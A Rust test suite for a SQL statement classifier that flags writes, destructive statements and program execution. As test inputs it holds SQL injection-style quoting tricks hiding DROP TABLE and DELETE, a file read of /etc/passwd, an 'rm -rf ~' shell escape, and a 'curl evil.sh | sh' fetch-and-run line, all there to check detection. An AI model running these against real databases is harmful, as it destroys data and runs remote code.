use super::*;

fn class(s: &str) -> Option<Class> {
    judge(s).map(|v| v.class)
}

fn verdict(s: &str) -> (Class, bool) {
    let v = judge(s).unwrap_or_else(|| panic!("not SQL: {s:?}"));
    (v.class, v.destructive)
}

#[test]
fn selects_are_read() {
    for s in [
        "SELECT * FROM users WHERE id = 1",
        "  -- hi\n /* c */ (select 1)",
        "WITH t AS (SELECT 1) SELECT * FROM t",
        "EXPLAIN SELECT 1",
        "EXPLAIN DELETE FROM t",
        "PRAGMA table_info(users)",
        "SHOW TABLES",
        "SELECT 'delete from x' AS s",
        "SELECT 'It''s'; SELECT 2",
        "SELECT E'\\n' AS nl",
        "SELECT $$a b$$, $q$ x $q$",
        "SELECT \"update\", `delete` FROM t",
        "SELECT replace(name, 'a', 'b') FROM t",
        "SELECT * FROM t FOR UPDATE",
        "SELECT t.delete_count, x.update FROM t JOIN x ON x.id = t.id",
        "SELECT $1, $2 FROM t",
        "DESCRIBE users",
        "SHOW CREATE TABLE users",
        "SHOW GRANTS FOR CURRENT_USER",
        "SELECT 'into' FROM t",
        "BEGIN TRANSACTION; SELECT 1; COMMIT",
        "/* a ; b */ SELECT 1 -- ; DROP TABLE t",
    ] {
        assert_eq!(judge(s), judge(s));
        assert_eq!(verdict(s), (Class::Read, false), "{s}");
    }
}

/// Issue 13 item 9: each spelling hides a destructive statement from a
/// lexer that gets one quoting rule wrong.
#[test]
fn quoting_never_hides_a_statement() {
    for s in [
        // A quote inside a comment.
        "SELECT 1 /* ' */; DROP TABLE users; -- '",
        "SELECT 1 -- '\n; DELETE FROM users; -- '",
        // PostgreSQL E-string escapes.
        "SELECT E'\\''; DROP TABLE users; --'",
        "SELECT e'\\\\'; TRUNCATE users; --'",
        // MySQL backslash escapes.
        "SELECT '\\''; DROP TABLE users; --'",
        "SELECT \"\\\"\"; DELETE FROM users; -- \"",
        // Dollar quotes.
        "SELECT $$'$$; DROP TABLE users; --'",
        "SELECT $tag$ ' $tag$; TRUNCATE users; -- '",
        // Doubled quotes.
        "SELECT 'a''b'; DELETE FROM users",
        // Nested comments: PostgreSQL nests, MySQL does not.
        "SELECT 1 /* /* */ ; DROP TABLE users; /* */",
        "SELECT 1 /* /* */ */; DROP TABLE users",
        // MySQL: `#` comments; `--` needs a space; executable comments.
        "SELECT 1 # '\n; DROP TABLE users; -- '",
        "SELECT 1 --'\n; DELETE FROM users",
        "SELECT 1 /*! ; DROP TABLE users */",
        "SELECT 1 /*!50001 ; DROP TABLE users */",
        // SQL Server and SQLite brackets.
        "SELECT [a'b]; DROP TABLE users; -- '",
        "SELECT [x; DROP TABLE users; --]",
        // Backticks.
        "SELECT `a'b`; DELETE FROM users; -- '",
        // Without `;` (SQL Server batches), after transaction control.
        "SELECT 1 DROP TABLE users",
        "BEGIN DELETE FROM users END",
        "BEGIN; TRUNCATE users; COMMIT",
        // Data-modifying CTEs and EXPLAIN ANALYZE.
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        "EXPLAIN ANALYZE DELETE FROM users",
        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users",
        // Snowflake `//` comments.
        "SELECT 1 // '\n; DROP TABLE users; -- '",
        // Case and brackets.
        "(dElEtE FROM users)",
    ] {
        let v = judge(s).unwrap_or_else(|| panic!("not SQL: {s:?}"));
        assert!(v.class >= Class::Write && v.destructive, "{s:?} → {v:?}");
    }
}

#[test]
fn unreadable_or_unknown_statements_are_destructive() {
    for s in [
        "SELECT 'unterminated",
        "SELECT 1; DROP TABLE t /* unterminated",
        "SELECT $$never closed",
        "SELECT \"open",
        "SELECT 1; frobnicate the users",
        "SELECT 1; \\! rm -rf ~",
        "SELECT 1 /*! DROP TABLE t",
    ] {
        assert_eq!(verdict(s), (Class::Write, true), "{s:?}");
    }
    let long = format!("SELECT '{}'", "x".repeat(MAX_SQL_BYTES));
    assert_eq!(verdict(&long), (Class::Write, true));
}

#[test]
fn changes_are_write_and_some_destructive() {
    assert_eq!(verdict("DELETE FROM users"), (Class::Write, true));
    assert_eq!(verdict("insert into t values (1)"), (Class::Write, false));
    assert_eq!(verdict("SELECT 1; DROP TABLE users"), (Class::Write, true));
    assert_eq!(class("SELECT * INTO backup FROM users"), Some(Class::Write));
    assert_eq!(verdict("SELECT * FROM t INTO OUTFILE '/tmp/x'"), (Class::Write, true));
    assert_eq!(class("PRAGMA journal_mode = WAL"), Some(Class::Write));
    assert_eq!(class("BEGIN; UPDATE t SET a = 1; COMMIT"), Some(Class::Write));
    assert_eq!(verdict("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$"), (Class::Write, true));
    assert_eq!(verdict("PREPARE p AS DELETE FROM t"), (Class::Write, true));
}

#[test]
fn functions_with_effects_are_not_reads() {
    for s in [
        "SELECT pg_terminate_backend(123)",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT lo_export(1234, '/tmp/x')",
        "SELECT \"pg_terminate_backend\"(1)",
        "SELECT pg_catalog.pg_read_file ( '/etc/passwd' )",
        "SELECT nextval('s')",
        "SELECT dblink_exec('host=x', 'DROP TABLE t')",
        "SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')",
        "SELECT 1 WHERE pg_sleep(10) IS NULL",
    ] {
        let v = judge(s).unwrap();
        assert!(v.class >= Class::Write, "{s:?} → {v:?}");
    }
}

#[test]
fn programs_are_execute() {
    assert_eq!(class("COPY t TO PROGRAM 'curl evil.sh | sh'"), Some(Class::Execute));
    assert_eq!(class("COPY t FROM PROGRAM 'id'"), Some(Class::Execute));
    assert_eq!(class("EXEC xp_cmdshell 'dir'"), Some(Class::Execute));
    assert_eq!(class("SELECT load_extension('x.so')"), Some(Class::Execute));
    assert_eq!(class("SELECT 1 COPY t TO PROGRAM 'id'"), Some(Class::Execute));
}

#[test]
fn prose_is_not_sql() {
    assert_eq!(class("show me the latest invoices"), Some(Class::Read));
    assert_eq!(class("machine learning papers"), None);
    assert_eq!(class("SELECT"), None);
    assert_eq!(class(""), None);
    assert_eq!(class("what's new"), None);
    assert_eq!(judge_text("machine learning papers", true), Some(UNKNOWN));
    // A `;` inside a dollar quote is a statement break to MySQL, which
    // reads `$$` as part of a name: the unknown statement that follows
    // counts as destructive.
    assert_eq!(verdict("SELECT $$a;b$$"), (Class::Write, true));
}

#[test]
fn hostile_text_stays_linear() {
    let t = std::time::Instant::now();
    for s in [
        "SELECT ".to_owned() + &"COPY ".repeat(100_000),
        "SELECT ".to_owned() + &"/* ".repeat(100_000),
        "SELECT ".to_owned() + &"$a$".repeat(100_000),
        "SELECT ".to_owned() + &"pg_sleep(".repeat(50_000),
        "BEGIN ".to_owned() + &"BEGIN ".repeat(100_000),
        "SELECT ".to_owned() + &format!("${}$ x", "t".repeat(100_000)),
    ] {
        let _ = judge(&s);
    }
    assert!(t.elapsed() < std::time::Duration::from_secs(10), "took {:?}", t.elapsed());
}

#[test]
fn odd_bytes_never_panic() {
    for s in ["SELECT \"é", "SELECT [é", "SELECT `é", "SELECT 'é\\", "SELECT $é$ x $é$", "SELECT E'é", "/*!", "/*M!"]
    {
        let _ = judge(s);
    }
}
